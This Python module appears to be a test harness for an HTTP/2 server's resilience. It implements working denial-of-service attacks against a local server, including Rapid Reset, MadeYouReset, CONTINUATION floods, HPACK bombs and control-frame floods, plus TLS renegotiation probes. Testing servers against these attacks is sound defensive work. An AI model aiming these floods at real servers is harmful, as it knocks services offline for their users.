# SPDX-License-Identifier: Apache-2.0
"""What hostile clients do, one function for each class of attack, and the connection that does it.

A flood is a function of an Enemy that gives pieces of bytes without end; Enemy.flood sends them
until the server ends the connection. A hold is a function of an Enemy that sends what shall be held
and returns. The tests (test_91*_attacks.py) and scripts/abuse-cost use the same functions.
"""

import ctypes
import itertools
import pathlib
import socket
import ssl
import struct
import subprocess
import threading
import time

import h2client
from h2client import PREFACE, RawH2

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE = range(6)
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(6, 10)
PRIORITY_UPDATE = 16
END_STREAM, END_HEADERS, PADDED, ACK = 1, 4, 8, 1
NO_ERROR, PROTOCOL_ERROR, INTERNAL_ERROR, FLOW_CONTROL_ERROR, STREAM_CLOSED = 0, 1, 2, 3, 5
FRAME_SIZE_ERROR, CANCEL, COMPRESSION_ERROR, ENHANCE_YOUR_CALM = 6, 8, 9, 11
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4

frame = RawH2.any_frame
ORIGIN = pathlib.Path(__file__).with_name("attack_origin.js")


class FastOrigin:
    """attack_origin.js, running."""

    def __init__(self):
        self.port = 0
        self.start()
        self.url = f"http://127.0.0.1:{self.port}"

    def start(self):
        """On the same port as before, if there was one."""
        words = ["node", str(ORIGIN), str(self.port)]
        self.process = subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.port = int(self.process.stdout.readline() or 0)
        assert self.port, "the origin of the attack tests did not start"

    def kill(self):
        self.process.kill()
        self.process.wait()
        self.process.stdin.close()
        self.process.stdout.close()

    def stop(self):
        if self.process.poll() is None:
            self.kill()

    close = stop  # for contextlib.closing


class Reader(threading.Thread):
    """Reads what the server sends; keeps GOAWAY's code, answers to PING, and how much it was."""

    def __init__(self, sock, begin=b""):
        super().__init__(daemon=True)
        self.sock = sock
        self.bytes = 0
        self.code = None  # of GOAWAY
        self.pongs = 0
        self.resets = 0
        self.heads = 0  # of responses
        self.windows = {}  # given by the server, by stream
        self.has_ended = False
        self._input = bytearray(begin)
        self.start()

    def run(self):
        try:
            while data := self.sock.recv(1 << 18):
                self.bytes += len(data)
                self._input += data
                self._parse()
        except (OSError, ValueError):
            pass
        self.has_ended = True

    def _parse(self):
        at = 0
        while len(self._input) - at >= 9:
            length = int.from_bytes(self._input[at : at + 3], "big")
            if len(self._input) - at < 9 + length:
                break
            kind = self._input[at + 3]
            if kind == GOAWAY:
                self.code = int.from_bytes(self._input[at + 13 : at + 17], "big")
            self.resets += kind == RST_STREAM
            self.heads += kind == HEADERS
            self.pongs += kind == PING and self._input[at + 4] & ACK
            if kind == WINDOW_UPDATE:
                stream_id, size = struct.unpack_from("!II", self._input, at + 5)
                self.windows[stream_id] = self.windows.get(stream_id, 65535) + size
            at += 9 + length
        del self._input[:at]


class Enemy:
    """One hostile HTTP/2 connection. `reads` is False for who never takes what the server sends."""

    def __init__(self, port, tls=False, reads=True, settings=None, small_buffers=False):
        sock = socket.socket()
        if small_buffers:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.settimeout(10)
        sock.connect(("127.0.0.1", port))
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls:
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            sock = context.wrap_socket(sock, server_hostname="localhost")
        self.sock = sock
        self.scheme = "https" if tls else "http"
        self.encoder = h2client.hpack.Encoder()
        self.sent = 0
        self.reader = None
        self.is_refused = False
        settings = b"".join(struct.pack("!HI", *pair) for pair in (settings or {}).items())
        self.send(PREFACE, frame(SETTINGS, 0, 0, settings), frame(SETTINGS, ACK, 0))
        if reads:
            self.sock.settimeout(None)
            self.reader = Reader(sock)

    # -- sending

    def send(self, *pieces):
        data = b"".join(pieces)
        try:
            self.sock.sendall(data)
            self.sent += len(data)
        except OSError:
            self.is_refused = True

    def flood(self, pieces, seconds, is_in_step=False):
        """Until the server has had enough or the time is over. Returns whether it was the server. In
        step: the next piece is sent when the server has read this one."""
        end = time.monotonic() + seconds
        if self.reader is None:
            self.sock.settimeout(seconds)  # who reads nothing is not read for ever
        for piece in pieces:
            if self.has_ended or time.monotonic() >= end:
                break
            self.send(piece)
            if is_in_step:
                self.wait_read(end)
        return self.has_ended

    def ask(self, requests, seconds, most=50):
        """One request after the other, with at most so many without an answer."""
        end = time.monotonic() + seconds
        for count, request in enumerate(requests):
            while count - self.reader.heads >= most and not self.has_ended:
                if time.monotonic() > end + seconds:
                    return
                time.sleep(0.0005)
            if self.has_ended or time.monotonic() >= end:
                return
            self.send(request)

    def wait_read(self, end):
        pongs = self.reader.pongs
        self.send(frame(PING, 0, 0, b"outrider"))
        while self.reader.pongs == pongs and not self.has_ended and time.monotonic() < end:
            time.sleep(0.0002)

    @property
    def has_ended(self):
        return self.is_refused or (self.reader is not None and self.reader.has_ended)

    def wait_ended(self, limit):
        end = time.monotonic() + limit
        while not self.has_ended and time.monotonic() < end:
            time.sleep(0.005)
        return self.has_ended

    @property
    def code(self):
        """Of the GOAWAY that came, or None."""
        return self.reader.code if self.reader else None

    def close(self):
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        if self.reader:
            self.reader.join(5)
        self.sock.close()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    # -- frames

    def block(self, path="/wait", method="GET", headers=()):
        """A header block; said twice it is short, since the fields are in the table then."""
        fields = [(":method", method), (":scheme", self.scheme), (":authority", "localhost")]
        return self.encoder.encode([*fields, (":path", path), *headers])

    def headers(self, stream_id, block=None, end=True, flags=END_HEADERS, **request):
        flags |= END_STREAM if end else 0
        return frame(HEADERS, flags, stream_id, self.block(**request) if block is None else block)

    def long_headers(self, stream_id, block):
        """HEADERS, and CONTINUATIONs as they are needed."""
        pieces = [block[at : at + 16384] for at in range(0, len(block), 16384)]
        last = len(pieces) - 1
        frames = [frame(HEADERS, END_STREAM | (0 if last else END_HEADERS), stream_id, pieces[0])]
        for number, piece in enumerate(pieces[1:], 1):
            flags = END_HEADERS if number == last else 0
            frames.append(frame(CONTINUATION, flags, stream_id, piece))
        return b"".join(frames)

    def twice(self, path="/wait", method="GET", headers=()):
        """(a block that stores its fields in the table, the same request as references)."""
        return self.block(path, method, headers), self.block(path, method, headers)


def window(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack("!I", increment))


def reset(stream_id, code=CANCEL):
    return frame(RST_STREAM, 0, stream_id, struct.pack("!I", code))


def stream_ids(first=1):
    return itertools.count(first, 2)


def per_stream(enemy, make, batch=10, **request):
    """make(stream id, block) for one stream after the other, some at a time."""
    first, block = enemy.twice(**request)
    yield make(1, first)
    ids = stream_ids(3)
    while True:
        yield b"".join(make(stream_id, block) for stream_id in itertools.islice(ids, batch))


# --- streams that are opened for nothing ---------------------------------------------------------


def rapid_reset(enemy):
    """CVE-2023-44487: open, reset, again."""
    return per_stream(enemy, lambda i, block: enemy.headers(i, block) + reset(i))


def posted(enemy, tail, headers=()):
    """A POST whose content goes on with `tail`, a function of the stream id."""

    def make(stream_id, block):
        return enemy.headers(stream_id, block, end=False) + tail(stream_id)

    return per_stream(enemy, make, method="POST", headers=headers)


def text_of(value):
    """A string as HPACK writes it, without Huffman's code."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest = len(value) - 127
    return b"\x7f" + bytes([rest & 127 | 128, rest >> 7]) + value


def literal(name, value):
    """A field that is not stored (RFC 7541 section 6.2.2)."""
    return b"\0" + text_of(name) + text_of(value)


def stored(name, value):
    """A field that becomes the newest entry of the table, of index 62."""
    return b"\x40" + text_of(name) + text_of(value)


NEWEST = b"\xbe"


def plain_request(enemy, path=b"/wait"):
    """A request of static fields and literals alone, whatever stands in the table."""
    scheme = b"\x86" if enemy.scheme == "http" else b"\x87"
    return b"\x82" + scheme + b"\x01\x09localhost" + b"\x04" + text_of(path)


# CVE-2025-8671: errors on a stream that make the server reset it.
MADE_YOU_RESET = {
    "window of zero": lambda e: posted(e, lambda i: window(i, 0)),
    "window overflow": lambda e: posted(e, lambda i: window(i, 2**31 - 1)),
    "priority of wrong length": lambda e: posted(e, lambda i: frame(PRIORITY, 0, i, bytes(4))),
    "priority on itself": lambda e: posted(
        e, lambda i: frame(PRIORITY, 0, i, struct.pack("!IB", i, 1))
    ),
    "headers after the end": lambda e: per_stream(
        e, lambda i, block: e.headers(i, block) + e.headers(i, block)
    ),
    "data after the end": lambda e: per_stream(
        e, lambda i, block: e.headers(i, block) + frame(DATA, 0, i, b"x")
    ),
    "content too short": lambda e: posted(
        e, lambda i: frame(DATA, END_STREAM, i, b"x"), [("content-length", "5")]
    ),
    "content too long": lambda e: posted(
        e, lambda i: frame(DATA, 0, i, b"xx"), [("content-length", "1")]
    ),
    "trailers without end": lambda e: posted(
        e, lambda i: frame(HEADERS, END_HEADERS, i, literal(b"x-a", b"b"))
    ),
    "pseudo field in trailers": lambda e: posted(
        e, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, i, literal(b":path", b"/"))
    ),
    "control byte in trailers": lambda e: posted(
        e, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, i, literal(b"x-a", b"\1"))
    ),
    "upper case in trailers": lambda e: posted(
        e, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, i, literal(b"X-A", b"b"))
    ),
}


def malformed(field):
    def attack(enemy):
        return per_stream(enemy, lambda i, block: enemy.headers(i, block + field))

    return attack


# Requests that are refused by themselves.
MALFORMED = {
    "upper case name": malformed(literal(b"X-A", b"b")),
    "control byte in a value": malformed(literal(b"x-a", b"\1")),
    "empty name": malformed(literal(b"", b"b")),  # CVE-2019-9516
    "connection field": malformed(literal(b"connection", b"close")),
    "transfer-encoding": malformed(literal(b"transfer-encoding", b"chunked")),
    "second path": malformed(literal(b":path", b"/")),
    "host of another": malformed(literal(b"host", b"elsewhere.example")),
    "content-length without content": malformed(literal(b"content-length", b"5")),
}


def too_many_streams(enemy):
    return per_stream(enemy, enemy.headers)


# --- header blocks -------------------------------------------------------------------------------


def continuation_flood(size):
    """CVE-2024-27316, 2024-28182 and others: a block that never ends."""

    def attack(enemy):
        yield frame(HEADERS, END_STREAM, 1, enemy.block())
        piece = literal(b"x-a", b"v" * size) if size else b""
        yield from itertools.repeat(frame(CONTINUATION, 0, 1, piece) * 20)

    return attack


def bomb(name, value, references):
    """HTTP/2 Bomb (2026), CVE-2016-6581: one stored field, and a byte for each further copy of it."""

    def attack(enemy):
        copies = NEWEST * references
        yield enemy.long_headers(1, plain_request(enemy) + stored(name, value) + copies)
        for stream_id in stream_ids(3):
            yield enemy.long_headers(stream_id, plain_request(enemy) + copies)

    return attack


def table_size_storm(enemy):
    """Thousands of table size updates before each request (RFC 7541 section 4.2 has two)."""
    storm = b"\x20\x3f\xe1\x1f" * 4000
    for stream_id in stream_ids():
        yield enemy.headers(stream_id, storm[:16000] + plain_request(enemy, b"/"))


def tsunami(enemy):
    """HTTP/2 Tsunami (2017): small requests that are large ones for the origin, within the limits."""
    block = plain_request(enemy, b"/")
    yield enemy.headers(1, block + stored(b"x", b"v" * 3900) + NEWEST * 14)
    for stream_id in stream_ids(3):
        yield enemy.headers(stream_id, block + NEWEST * 15)


# --- frames --------------------------------------------------------------------------------------


def repeated(data, count=500, before=None):
    """The same frame again and again, after `before(enemy)`."""

    def attack(enemy):
        if before is not None:
            yield before(enemy)
        yield from itertools.repeat(data * count)

    return attack


def one_request(enemy):
    return enemy.headers(1)


def one_upload(enemy):
    return enemy.headers(1, end=False, method="POST")


def many_requests(enemy):
    return b"".join(enemy.headers(i) for i in range(1, 200, 2))


WINDOWS = struct.pack("!HI", INITIAL_WINDOW_SIZE, 65535) + struct.pack("!HI", INITIAL_WINDOW_SIZE, 1)
TABLES = struct.pack("!HI", HEADER_TABLE_SIZE, 0) + struct.pack("!HI", HEADER_TABLE_SIZE, 65536)

FLOODS = {
    "ping": repeated(frame(PING, 0, 0, bytes(8))),
    "settings": repeated(frame(SETTINGS, 0, 0)),
    "settings of windows": repeated(frame(SETTINGS, 0, 0, WINDOWS * 16), 20, many_requests),
    "settings of tables": repeated(frame(SETTINGS, 0, 0, TABLES * 16), 20, one_request),
    "priority": repeated(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")),
    "priority of new streams": lambda enemy: (
        b"".join(frame(PRIORITY, 0, i + j, b"\0\0\0\0\x10") for j in range(0, 1000, 2))
        for i in itertools.count(1, 1000)
    ),
    "priority update": repeated(frame(PRIORITY_UPDATE, 0, 0, b"\0\0\0\x01u=1")),
    "window of the connection": repeated(window(0, 1)),
    "window of a stream": repeated(window(1, 1), before=one_request),
    "empty data": repeated(frame(DATA, 0, 1), before=one_upload),
    "unknown frames": repeated(frame(77, 0, 0)),
    "large unknown frames": repeated(frame(77, 0, 0, bytes(16384)), 4),
    "resets of a closed stream": repeated(
        reset(1), before=lambda enemy: enemy.headers(1) + reset(1)
    ),
    "window of a closed stream": repeated(
        window(1, 1), before=lambda enemy: enemy.headers(1) + reset(1)
    ),
}


def goaway_games(enemy):
    """GOAWAY again and again, with any last stream and much to say."""
    for number in itertools.count():
        last = struct.pack("!II", (2**31 - 1) >> number % 31, number % 14)
        yield frame(GOAWAY, 0, 0, last + bytes(number * 997 % 16000))


def data_dribble(enemy):
    """CVE-2019-9511: windows of a byte, again and again."""
    yield b"".join(enemy.headers(i, path="/large") for i in range(1, 200, 2))
    while enemy.reader.heads < 100 and not enemy.has_ended:
        time.sleep(0.001)
    drip = b"".join(window(i, 1) for i in range(1, 200, 2))
    yield from itertools.repeat(drip)


def internal_buffering(enemy):
    """CVE-2019-9517: windows wide open, and TCP shut. For who reads nothing."""
    yield window(0, 2**30)
    yield b"".join(enemy.headers(i, path="/large") for i in range(1, 200, 2))
    time.sleep(0.2)
    yield from itertools.repeat(frame(PING, 0, 0, bytes(8)) * 500)


def small_data(enemy):
    """Content byte by byte, as fast as the windows allow."""
    yield one_upload(enemy)
    for sent in itertools.count(0, 100):
        windows = enemy.reader.windows
        while not enemy.has_ended and min(windows.get(i, 65535) for i in (0, 1)) < sent + 100:
            time.sleep(0.001)
        yield frame(DATA, 0, 1, b"x") * 100


# --- TLS -----------------------------------------------------------------------------------------


class Tls:
    """libssl itself, for what Python's ssl does not offer."""

    VERSION_1_2, VERSION_1_3 = 0x303, 0x304
    _SET_MAX_VERSION = 124
    library = None

    def __init__(self, port, version=VERSION_1_3):
        lib = self._load()
        self.sock = socket.create_connection(("127.0.0.1", port), 10)
        self.sock.settimeout(None)
        context = lib.SSL_CTX_new(lib.TLS_client_method())
        lib.SSL_CTX_ctrl(context, self._SET_MAX_VERSION, version, None)
        self.ssl = lib.SSL_new(context)
        lib.SSL_CTX_free(context)
        lib.SSL_set_fd(self.ssl, self.sock.fileno())
        lib.SSL_set_alpn_protos(self.ssl, b"\x02h2", 3)
        assert lib.SSL_connect(self.ssl) == 1
        self.write(PREFACE + frame(SETTINGS, 0, 0))

    @classmethod
    def _load(cls):
        if cls.library is None:
            lib = ctypes.CDLL("libssl.so.3")
            pointer, number, text = ctypes.c_void_p, ctypes.c_int, ctypes.c_char_p
            for name, result, *arguments in [
                ("TLS_client_method", pointer),
                ("SSL_CTX_new", pointer, pointer),
                ("SSL_CTX_free", None, pointer),
                ("SSL_CTX_ctrl", ctypes.c_long, pointer, number, ctypes.c_long, pointer),
                ("SSL_new", pointer, pointer),
                ("SSL_free", None, pointer),
                ("SSL_set_fd", number, pointer, number),
                ("SSL_set_alpn_protos", number, pointer, text, ctypes.c_uint),
                ("SSL_connect", number, pointer),
                ("SSL_do_handshake", number, pointer),
                ("SSL_key_update", number, pointer, number),
                ("SSL_renegotiate", number, pointer),
                ("SSL_write", number, pointer, text, number),
            ]:
                function = getattr(lib, name)
                function.restype, function.argtypes = result, arguments
            cls.library = lib
        return cls.library

    def write(self, data):
        return self.library.SSL_write(self.ssl, data, len(data))

    def update_keys(self, is_answer_wanted):
        """New keys for what we send, and perhaps for what we get; False when it did not go."""
        lib = self.library
        return (
            lib.SSL_key_update(self.ssl, int(is_answer_wanted)) == 1
            and lib.SSL_do_handshake(self.ssl) == 1
        )

    def renegotiate(self):
        """What SSL_do_handshake says: 1 would be that the server did it."""
        self.library.SSL_renegotiate(self.ssl)
        return self.library.SSL_do_handshake(self.ssl)

    def close(self):
        self.library.SSL_free(self.ssl)
        self.sock.close()


def client_hello():
    """The first bytes of a TLS client."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()
